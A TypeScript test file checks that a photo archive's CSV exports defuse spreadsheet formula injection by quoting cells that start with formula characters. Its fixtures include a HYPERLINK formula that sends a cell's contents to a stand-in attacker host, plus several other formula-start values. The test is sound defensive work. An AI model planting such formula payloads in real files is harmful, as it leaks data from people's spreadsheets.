import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Item, closeDb } from '../../../db/index.ts';
import { asToken, makeArchive, type TestArchive } from '../../support/fixtures.ts';
import { createBatch, decide, downloadBytes, scan, uploadScan, waitExport, waitReady } from './helpers.ts';

const run = promisify(execFile);

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(field), rows.push(row), (row = []), (field = '');
    } else field += ch;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

// What a spreadsheet program reads as the start of a formula (OWASP, "CSV Injection").
const FORMULA_START = /^[=+\-@\t\r]/;
// Invented for this test: one value per dangerous first character.
const CAPTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const PLACE = '+SUM(1,2)';
const PERSON = '@cmd';
const FILE_NAME = '-2+3 scan.jpg';
const LOCATION = '=1+1 blue tin';
const TAB_NOTE = '\t=2+2';
const CR_ENVELOPE = '\r=3+3';

let a: TestArchive;
let itemIds: string[];
let tmp: string;
beforeAll(async () => {
  a = await makeArchive('csv-injection');
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'drawerlight-csv-'));
  const editor = asToken(a.editor);
  const batchId = await createBatch(editor, 'Formula drawer');
  itemIds = [await uploadScan(editor, batchId, FILE_NAME, await scan(71)), await uploadScan(editor, batchId, 'plain.jpg', await scan(72))];
  for (const id of itemIds) await waitReady(editor, id);
  const r = await editor.patch(`/api/items/${itemIds[0]}/metadata`, { caption: CAPTION, place: PLACE, people: [PERSON] });
  expect(r.status, r.text).toBe(200);
  // Tab and carriage return as typed long ago (the forms refuse control characters now): written straight to the row.
  await Item.update({ envelope: CR_ENVELOPE }, { where: { id: itemIds[0] } });
  await decide(editor, itemIds[0], 'accepted');
  await decide(editor, itemIds[1], 'rescan', { negativeAvailable: 'yes', negativeLocation: LOCATION });
  await Item.update({ rescanNote: TAB_NOTE }, { where: { id: itemIds[1] } });
}, 300_000);
afterAll(async () => {
  await closeDb();
  await fs.rm(tmp, { recursive: true, force: true });
});

function expectNoFormulaCells(rows: string[][]) {
  for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
}

describe('CSV files opened in a spreadsheet', () => {
  it('photos.csv of an export starts no cell with a formula character: each such cell gets a leading single quote', async () => {
    const editor = asToken(a.editor);
    const r = await editor.post('/api/exports', { selection: { kind: 'items', itemIds: [itemIds[0]] }, includeOriginals: false });
    expect(r.status, r.text).toBe(202);
    const done = await waitExport(editor, `/api/exports/${r.body.id}`);
    expect(done.state).toBe('ready');
    const zip = path.join(tmp, 'export.zip');
    await fs.writeFile(zip, (await downloadBytes(editor, done.downloadUrl)).bytes);
    // Read with Info-ZIP's unzip, independent of our writer.
    const { stdout } = await run('unzip', ['-p', zip, '*/data/photos.csv'], { encoding: 'buffer', maxBuffer: 1 << 20 });
    const rows = parseCsv((stdout as unknown as Buffer).toString('utf8').replace(/^\ufeff/, ''));
    const header = rows[0];
    const record = Object.fromEntries(header.map((h, i) => [h, rows[1][i]]));
    expect(rows).toHaveLength(2);
    expectNoFormulaCells(rows);
    expect(record.caption).toBe(`'${CAPTION}`);
    expect(record.place).toBe(`'${PLACE}`);
    expect(record.people).toBe(`'${PERSON}`);
    expect(record.scan_file_name).toBe(`'${FILE_NAME}`);
    expect(record.envelope).toBe(`'${CR_ENVELOPE}`);
    // An ordinary cell is left as it was.
    expect(record.batch).toBe('Formula drawer');
  });

  it('rescans.csv starts no cell with a formula character: each such cell gets a leading single quote', async () => {
    const r = await downloadBytes(asToken(a.viewer), '/api/rescans.csv');
    expect(r.status).toBe(200);
    const rows = parseCsv(r.bytes.toString('utf8').replace(/^\ufeff/, ''));
    expect(rows).toHaveLength(2);
    expectNoFormulaCells(rows);
    const record = Object.fromEntries(rows[0].map((h, i) => [h, rows[1][i]]));
    expect(record['Where the negative is']).toBe(`'${LOCATION}`);
    expect(record.Note).toBe(`'${TAB_NOTE}`);
    expect(record['Scan file']).toBe('plain.jpg');
  });
});
